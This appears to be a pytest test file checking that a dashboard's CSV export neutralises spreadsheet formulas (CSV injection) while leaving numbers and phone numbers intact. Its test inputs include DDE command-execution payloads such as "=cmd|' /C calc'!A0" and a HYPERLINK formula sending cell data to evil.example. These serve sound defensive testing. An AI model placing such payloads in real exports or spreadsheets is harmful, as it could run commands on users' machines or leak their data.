"""CSV export neutralises what a spreadsheet would run as a formula (OWASP "CSV Injection") and nothing else:
numbers and phone numbers keep their value, so a re-import gives back the same text."""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.app import create_app
from dashboard.data.load import read_report
from dashboard.data.safe import csv_cell
from tests.conftest import write_rows

FORMULAS = ['=1+2', '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1", " =1+2", "-A1",
            "+A1*2", "-1+SUM(A1)", "--1", "-1:1", '+"a"&"b"']
VALUES = ["-5", "-0.5", "-.5", "+1 555 0100", "+44 (20) 7946-0958", "+1-555-0100", "-1,000.25", "-2.5e3",
          "-5%", "-", "plain text", "2020-06-08", "a=b", "x-1", "", "e-mail", "(555) 0100"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", VALUES)
def test_numbers_phone_numbers_and_text_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_the_api_csv_keeps_numbers_and_phones_and_a_reimport_gives_the_same_text(tmp_path):
    path = write_rows(tmp_path / "events.csv", [
        {"id": "a", "date": "2020-06-08", "title": "-5", "description": "+1 555 0100", "category": "decision",
         "actor": "=HYPERLINK(\"http://evil.example\")", "location": "-2+3+cmd|' /C calc'!A0",
         "sources": "https://example.org/a"},
    ])
    client = create_app(path).server.test_client()
    text = client.get("/api/events.csv").get_data(as_text=True)
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["title"], row["description"]) == ("-5", "+1 555 0100")
    assert row["actor"] == "'=HYPERLINK(\"http://evil.example\")"
    assert row["location"] == "'-2+3+cmd|' /C calc'!A0"
    again = tmp_path / "again.csv"
    again.write_text(text, encoding="utf-8")
    report = read_report(again)
    assert not report.errors
    assert report.events.loc[0, "title"] == "-5" and report.events.loc[0, "description"] == "+1 555 0100"
